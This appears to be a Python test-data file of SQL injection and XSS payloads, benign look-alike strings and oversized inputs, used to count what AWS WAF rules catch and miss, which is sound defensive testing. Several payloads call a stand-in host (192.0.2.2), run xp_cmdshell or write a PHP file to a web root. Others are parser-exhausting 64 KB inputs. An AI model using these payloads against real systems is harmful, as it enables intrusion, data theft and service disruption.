"""Texts that attack and texts that do not, to count by them what AWS WAF's statements find here.

The attacks are of the kinds that https://owasp.org/www-community/attacks/SQL_Injection,
https://owasp.org/www-project-web-security-testing-guide (testing for SQL injection) and
https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html describe.
"""

_INJECTIONS = r"""1' or '1'='1
1 or 1=1
' or 1=1--
' or 1=1#
' or 1=1/*
admin'--
admin' #
admin'/*
' or ''='
') or ('1'='1
')) or (('1'='1
1) or (1=1
" or ""="
" or "1"="1
1; drop table users
1'; drop table users--
'; exec master..xp_cmdshell 'ping 192.0.2.2'--
1' union select 1,2,3--
1 union all select null,null,null--
-1 union select username, password from users
' union select @@version--
1' order by 5--
1 order by 10--
' having 1=1--
' group by userid having 1=1--
1' and sleep(5)--
1 and sleep(5)
1-sleep(5)
'-sleep(5)-'
1; waitfor delay '0:0:10'--
'; waitfor delay '0:0:5'--
1 and (select count(*) from users) > 0
1' and (select substring(@@version,1,1))='5'--
1 and ascii(substring((select database()),1,1))>64
1' and 1=convert(int,@@version)--
1 and extractvalue(1,concat(0x7e,version()))
' and updatexml(1,concat(0x7e,(select user())),1)--
if(now()=sysdate(),sleep(5),0)
(select(0)from(select(sleep(15)))v)
1' or sleep(5)#
' || (select utl_http.request('http://192.0.2.2') from dual) || '
'||pg_sleep(10)--
1;select pg_sleep(10)
' into outfile '/var/www/x.php'--
1/**/union/**/select/**/1,2
1/*!50000union*//*!50000select*/1,2
1 UnIoN SeLeCt 1
' or true--
' or 'x' like 'x
' or 1 in (select @@version)--
' or username is not null or username = '
x' or 1=1 or 'x'='y
'='
'or'1'='1
1'||'1'='1
\' or 1=1--
0x31 or 1=1
'; insert into users values(1,'a')--
1; update users set password='x'
benchmark(10000000,md5(1))
' procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)--
1 or '1'='1'
anything' or 'x'='x
select * from users
' and 1=0 union all select '', '81dc9bdb52d04dc20036dbd8313ed055
"; drop database shop; --
1 rlike sleep(5)
1 and 1=2 union select 1,user()
{"name": "x' OR '1"}
{"name": "x' or 1=1--"}"""
INJECTIONS = _INJECTIONS.splitlines()

_SCRIPTS = r"""<script>alert(1)</script>
<SCRIPT SRC=http://192.0.2.2/x.js></SCRIPT>
"><script>alert(1)</script>
'><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)"
<IMG SRC="javascript:alert('1');">
<IMG SRC=JaVaScRiPt:alert('1')>
<IMG SRC=`javascript:alert("1")`>
<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('1')>
<IMG SRC=" &#14; javascript:alert('1');">
<IMG SRC="jav&#x09;ascript:alert('1');">
<SCRIPT/X SRC="http://192.0.2.2/x.js"></SCRIPT>
<BODY onload!#$%&()*~+-_.,:;?@[/|\]^`=alert("1")>
<<SCRIPT>alert("1");//<</SCRIPT>
<iframe src=http://192.0.2.2/x.html <
</TITLE><SCRIPT>alert("1");</SCRIPT>
<INPUT TYPE="IMAGE" SRC="javascript:alert('1');">
<BODY BACKGROUND="javascript:alert('1')">
<svg/onload=alert('1')>
<svg><script>alert(1)</script></svg>
<LINK REL="stylesheet" HREF="javascript:alert('1');">
<STYLE>@import'http://192.0.2.2/x.css';</STYLE>
<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('1');">
<TABLE BACKGROUND="javascript:alert('1')">
<DIV STYLE="width: expression(alert('1'));">
<BASE HREF="javascript:alert('1');//">
<OBJECT TYPE="text/x-scriptlet" DATA="http://192.0.2.2/s.html"></OBJECT>
<EMBED SRC="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml">
<a href="javascript:alert(1)">x</a>
<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>
<a onmouseover="alert(document.cookie)">link</a>
<details open ontoggle=alert(1)>
<video><source onerror="alert(1)">
<form><button formaction=javascript:alert(1)>X</button>
<marquee onstart=alert(1)>
<input autofocus onfocus=alert(1)>
<math><mi xlink:href="data:x,<script>alert(4)</script>">
<isindex action=javascript:alert(1) type=image>
" onmouseover="alert(1)
' onmouseover='alert(1)
x onfocus=alert(1) autofocus
" autofocus onfocus=alert(1) x="
` onerror=alert(1) x=`
javascript:alert(1)
  javascript:alert(document.cookie)
data:text/html,<script>alert(1)</script>
<img/src="x"/onerror=alert(1)>
<img src=x:x onerror=alert(1)//
<iframe srcdoc="<script>alert(1)</script>">
<div style="background:url(javascript:alert(1))">
<?xml-stylesheet href="javascript:alert(1)"?>
<!--[if gte IE 4]><SCRIPT>alert('1');</SCRIPT><![endif]-->
<a href="vbscript:msgbox(1)">x</a>
';alert(1)//"""
SCRIPTS = _SCRIPTS.splitlines()

_HARMLESS = r"""O'Reilly
O'Brien and Sons
Aiko O'Neill, union member, selects tea
select a seat
please select one from the list
Select the best option from the menu and drop it into the table
drop me a line
Drop table reservations need a phone call
update your profile
delete from my cart
The workers' union selects its leader
rock 'n' roll
it's 5 o'clock
rooms 1 and 2
1 or 2 people
3 or more
10 and 20
1 < 2
1 = 1
2 + 2 = 4
x > y and y < z
a = b
a<b and c>d
I <3 you
5'10"
6' 2" tall
bob@example.com
https://example.com/a?b=1&c=2
{"a": 1, "b": "two"}
{"or": "and", "x": ["or", "and"]}
["or","x"]
{"html": "<b>x</b>"}
name=O'Reilly&city=Paris
q=select&from=paris&to=rome
name=O'Reilly&on=true
Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0
text/html,application/xhtml+xml;q=0.9,*/*;q=0.8
for (int i = 0; i < 10; i++) { print(i); }
List<String> names = new ArrayList<>();
x = 'a' + 'b'
if a == 'x' or b == 'y': pass
print("hello" + name)
def f(x): return x or 1
#hashtag
C# developer
issue #12 -- fixed
item -- the best one
it's -- well -- complicated
session=abc123; theme=dark
10:30 - 11:45
(555) 123-4567
12 Main St., Apt. #5
He said "yes" or "no"
the 'or' operator
AT&T
R&D; sales
price <= 10
I'd like to order by phone
group by colour
limit 10 per customer
Robert'); 
create an account
null
1,2,3
en-US,en;q=0.9
eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-_def
Union Station, Select Bus Service
don't drop the ball; it's fragile
"Tom" and "Jerry"
C:\Users\bob
user's guide (2nd edition)
I can't sleep (again)
thread.sleep(5)
2 * (3 + 4) = 14
<b>bold</b>
<p class="x">Hello, <i>world</i></p>
<a href="https://example.com/?a=1&b=2">link</a>
<img src="cat.png" alt="a cat">
<img src="data:image/png;base64,iVBORw0KGgo=">
online=yes
only=1&once=2
JavaScript: The Good Parts
I like JavaScript and data: both
style = modern
<!DOCTYPE html>
<john@example.com>
the <select> element
onclick handlers are bad
<div style="color: red">x</div>
x=onboarding"""
HARMLESS = _HARMLESS.splitlines()

TRAPS = [
    b"'" * 65_536, b"a " * 32_768, b"(" * 65_536, b"'\\" * 32_768, b"1" * 65_535 + b"a", b"/*" * 32_768, b"a." * 32_768, b"1," * 32_768,
    b"<" * 65_536, b"<a " * 21_800, b"<a " + b"b=c " * 16_300, b"\"'`" * 21_800, b"<a<a" * 16_384, b"=" * 65_536, b"<a" + b" " * 65_000,
    b"<!doctype " * 6_500, b"&#106;" * 10_900, b'<a style="' + b"/*" * 30_000, b"on" * 32_768, b"onload onerror " * 4_300,
    b"src href " * 7_200, b"\xff\xfe\x00" * 21_800,
]  # fmt: skip
"""64 KB each that would take careless readers the square of that."""
